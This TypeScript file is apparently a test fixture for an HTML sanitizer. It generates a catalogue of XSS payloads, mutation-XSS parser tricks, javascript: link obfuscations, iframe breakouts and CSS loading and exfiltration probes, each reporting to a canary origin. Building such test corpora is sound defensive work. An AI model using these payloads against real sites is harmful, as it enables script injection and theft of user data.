/** HTML that tries to run a script, or to reach a server. */
export interface HostileHtml {
  readonly name: string;
  /** If it gets through, it asks for the path `/NAME` of the canary; a script also says `ran:NAME` on the console. */
  readonly html: string;
  /**
   * What a reader must do that it gets through on a page without walls: load it, click the element `go`, or set the
   * page's HTML to itself. `never`: it did in older browsers, or in what reads HTML otherwise.
   */
  readonly by: 'load' | 'click' | 'reparse' | 'never';
}

/** What every advisory and its like tries. @param canary an origin */
export function hostileHtml(canary: string): readonly HostileHtml[] {
  /** A script, in quotes of one kind, without `<` and `>`. */
  const run = (name: string): string => `console.log('ran:${name}');fetch('${canary}/${name}')`;
  /** A picture that can't be loaded, and runs a script for that. */
  const broken = (name: string): string => `<img src=data:, onerror="${run(name)}">`;
  const brokenInTitle = (name: string): string => `&lt;img src=data:, onerror=&quot;${run(name)}&quot;&gt;`;
  const cases = (by: HostileHtml['by'], html: Readonly<Record<string, string>>): readonly HostileHtml[] =>
    Object.entries(html).map(([name, text]) => ({ name, by, html: text }));

  return [
    ...cases('load', {
      // Scripts.
      script: `<script>${run('script')}</script>`,
      'script-src': `<script src="${canary}/script-src"></script>`,
      'script-slashes': `<script/x/src=${canary}/script-slashes></script>`,
      'script-doubled': `<<script>${run('script-doubled')}//<</script>`,
      'script-quotes': `<img """><script>${run('script-quotes')}</script>">`,
      onerror: broken('onerror'),
      'onerror-slashes': `<img/src="data:,"/onerror="${run('onerror-slashes')}"/>`,
      'onerror-capitals': `<IMG SRC=data:, ONERROR="${run('onerror-capitals')}">`,
      'onerror-image': `<image src=data:, onerror="${run('onerror-image')}">`,
      'onerror-entities': `<img src=data:, onerror="${run('onerror-entities').replaceAll('(', '&#x28;')}">`,
      onload: `<body onload="${run('onload')}">`,
      onfocus: `<input autofocus onfocus="${run('onfocus')}">`,
      ontoggle: `<details open ontoggle="${run('ontoggle')}">x</details>`,
      'onload-style': `<style onload="${run('onload-style')}"></style>`,
      'onload-link': `<link rel="stylesheet" href="data:text/css," onload="${run('onload-link')}">`,
      'onerror-source': `<video><source src="data:," onerror="${run('onerror-source')}"></video>`,
      onanimationstart: `<style>@keyframes a{}</style><p style="animation:a 1s" onanimationstart="${run('onanimationstart')}">`,
      // SVG and MathML.
      'svg-onload': `<svg onload="${run('svg-onload')}"></svg>`,
      'svg-slash': `<svg/onload="${run('svg-slash')}">`,
      'svg-script': `<svg><script>${run('svg-script')}</script></svg>`,
      'svg-script-entities': `<svg><script>${run('svg-script-entities').replaceAll('(', '&#40;')}</script></svg>`,
      'svg-set': `<svg><set attributeName="x" begin="0s" onbegin="${run('svg-set')}"/></svg>`,
      'svg-image': `<svg><image href="${canary}/svg-image"/></svg>`,
      'svg-foreign': `<svg><foreignObject>${broken('svg-foreign')}</foreignObject></svg>`,
      'svg-style': `<svg><style>@import "${canary}/svg-style";</style></svg>`,
      'math-html': `<math><mtext>${broken('math-html')}</mtext></math>`,
      // Pages within the page, and other pages.
      refresh: `<meta http-equiv="refresh" content="0;url=${canary}/refresh">`,
      frame: `<iframe src="${canary}/frame"></iframe>`,
      'frame-breakout': `</iframe><script>${run('frame-breakout')}</script>`,
      srcdoc: `<iframe srcdoc="<script>${run('srcdoc')}</script>"></iframe>`,
      'frame-script': `<iframe src="javascript:${run('frame-script')}"></iframe>`,
      'frame-data': `<iframe src="data:text/html,<script>${run('frame-data')}</script>"></iframe>`,
      object: `<object data="${canary}/object"></object>`,
      'object-data': `<object data="data:text/html,<script>${run('object-data')}</script>"></object>`,
      embed: `<embed src="${canary}/embed">`,
      base: `<base href="${canary}/"><img src="base">`,
      form: `<form id="f" action="${canary}/form"></form><script>document.getElementById('f').submit()</script>`,
      // What is loaded.
      image: `<img src="${canary}/image">`,
      'image-relative-scheme': `<img src="${canary.replace('http:', '')}/image-relative-scheme">`,
      'image-backslashes': `<img src="${canary.replace('http:', '').replaceAll('/', '\\')}/image-backslashes">`,
      'image-controls': `<img src="&#1; ht&Tab;tp&NewLine;:${canary.replace('http:', '')}/image-controls">`,
      srcset: `<img srcset="${canary}/srcset 1x">`,
      picture: `<picture><source srcset="${canary}/picture"><img></picture>`,
      'input-image': `<input type="image" src="${canary}/input-image">`,
      'background-attribute': `<table background="${canary}/background-attribute"><td>x</table>`,
      'background-body': `<body background="${canary}/background-body">`,
      video: `<video autoplay src="${canary}/video"></video>`,
      poster: `<video poster="${canary}/poster"></video>`,
      audio: `<audio autoplay src="${canary}/audio"></audio>`,
      stylesheet: `<link rel="stylesheet" href="${canary}/stylesheet">`,
      preload: `<link rel="preload" as="image" href="${canary}/preload">`,
      prefetch: `<link rel="prefetch" href="${canary}/prefetch">`,
      modulepreload: `<link rel="modulepreload" href="${canary}/modulepreload">`,
      // Styles.
      background: `<div style="background:url(${canary}/background)">x</div>`,
      'background-escapes': String.raw`<div style="background:u\72\6c(${canary}/background-escapes)">x</div>`,
      'background-entities': `<div style="background:&#117;rl&lpar;${canary}/background-entities)">x</div>`,
      'background-unclosed': `<div style="background:url('${canary}/background-unclosed">x</div>`,
      'style-import': `<style>@import url(${canary}/style-import);</style>`,
      'style-import-string': `<style>@import/**/'${canary}/style-import-string';</style>`,
      'style-import-escapes': String.raw`<style>@\69mport "${canary}/style-import-escapes";</style>`,
      'style-import-data': `<style>@import "data:text/css,@import '${canary}/style-import-data';";</style>`,
      font: `<style>@font-face{font-family:x;src:local(none),url(${canary}/font)}p{font-family:x}</style><p>x</p>`,
      'image-set': `<div style="background-image:image-set('${canary}/image-set' 1x)">x</div>`,
      'image-set-variable': `<div style="--a:'${canary}/image-set-variable';background-image:image-set(var(--a) 1x)">x</div>`,
      'style-variable': `<style>p{--a:url(${canary}/style-variable);background:var(--a)}</style><p>x</p>`,
      content: `<style>p::before{content:url(${canary}/content)}</style><p>x</p>`,
      'list-style': `<ul style="list-style-image:url(${canary}/list-style)"><li>x</ul>`,
      'border-image': `<p style="border:1px solid;border-image:url(${canary}/border-image) 1">x</p>`,
      mask: `<p style="mask-image:url(${canary}/mask)">x</p>`,
      exfiltration: `<style>input[value^=s]{background:url(${canary}/exfiltration)}</style><input value="secret">`,
      'style-joined': `<style>p{background:u<!--rl(x)}</style><style>p{background:url(${canary}/style-joined)}</style><p>x</p>`,
      // Ends that readers of HTML see in other places.
      'end-noscript': `<noscript><p title="</noscript>${broken('end-noscript').replaceAll('"', '')}">`,
      'end-textarea': `<textarea><p title="</textarea>${broken('end-textarea').replaceAll('"', '')}">`,
      'end-xmp': `<xmp><p title="</xmp>${broken('end-xmp').replaceAll('"', '')}">`,
      'end-title': `<title><p title="</title>${broken('end-title').replaceAll('"', '')}">`,
      'end-iframe': `<iframe><p title="</iframe>${broken('end-iframe').replaceAll('"', '')}">`,
      'end-style': `<style><p title="</style>${broken('end-style').replaceAll('"', '')}">`,
      'end-comment': `<!-->${broken('end-comment')}-->`,
      'end-comment-mark': `<!--x--!>${broken('end-comment-mark')}-->`,
      'end-cdata': `<![CDATA[>${broken('end-cdata')}]]>`,
      'end-declaration': `<!x ">${broken('end-declaration')}">`,
      'end-instruction': `<?xml ">${broken('end-instruction')}?>`,
      'end-tag': `</x ">${broken('end-tag')}">`,
      'svg-broken-out': `<svg><style><p>${broken('svg-broken-out')}</style></svg>`,
      'mutation-annotation': `<math><annotation-xml encoding="text/html"><style><img title="</style>${broken('mutation-annotation').replaceAll('"', '')}">`,
      'mutation-title': `<svg><title><style><img title="</style>${broken('mutation-title').replaceAll('"', '')}">`,
      'mutation-deep': `${'<div>'.repeat(510)}<svg><p><style><a title="</style>${broken('mutation-deep').replaceAll('"', '')}">`,
    }),
    ...cases('click', {
      link: `<a id="go" href="javascript:${run('link')}">x</a>`,
      'link-entities': `<a id="go" href="&#106;avascript&colon;${run('link-entities')}">x</a>`,
      'link-tab': `<a id="go" href="java&Tab;script:${run('link-tab')}">x</a>`,
      'link-newline': `<a id="go" href="java\nscript:${run('link-newline')}">x</a>`,
      'link-control': `<a id="go" href="&#1;&#20; JavaScript:${run('link-control')}">x</a>`,
      'link-svg': `<svg width="20" height="20"><a id="go" href="javascript:${run('link-svg')}"><rect width="20" height="20"/></a></svg>`,
      'link-xlink': `<svg width="20" height="20"><a id="go" xlink:href="javascript:${run('link-xlink')}"><rect width="20" height="20"/></a></svg>`,
      'link-map': `<map name="m"><area id="go" coords="0,0,20,20" href="javascript:${run('link-map')}"></map>`,
      ping: `<a id="go" href="#" ping="${canary}/ping">x</a>`,
      'form-button': `<form action="${canary}/form-button"><button id="go">x</button></form>`,
      formaction: `<form><button id="go" formaction="${canary}/formaction">x</button></form>`,
      'formaction-script': `<form><button id="go" formaction="javascript:${run('formaction-script')}">x</button></form>`,
    }),
    ...cases('reparse', {
      'mutation-svg': `<svg></p><style><a id="</style>${broken('mutation-svg').replaceAll('"', '')}">`,
    }),
    ...cases('never', {
      'mutation-form': `<form><math><mtext></form><form><mglyph><style></math>${broken('mutation-form')}`,
      'link-svg-animated': `<svg width="20" height="20"><a id="go"><animate attributeName="href" values="javascript:${run('link-svg-animated')}"/><rect width="20" height="20"/></a></svg>`,
      'mutation-mglyph': `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;${brokenInTitle('mutation-mglyph')}">`,
      expression: `<p style="width:expression(${run('expression').replaceAll("'", '`')})">x</p>`,
      binding: `<p style="-moz-binding:url(${canary}/binding);behavior:url(${canary}/binding)">x</p>`,
      vbscript: '<a id="go" href="vbscript:msgbox(1)">x</a>',
      'link-data': `<a id="go" href="data:text/html,<script>${run('link-data')}</script>">x</a>`,
      'dns-prefetch': `<meta http-equiv="x-dns-prefetch-control" content="on"><link rel="dns-prefetch" href="${canary}/dns-prefetch">`,
      import: `<link rel="import" href="${canary}/import">`,
      template: `<template><script>${run('template')}</script></template>`,
    }),
  ];
}
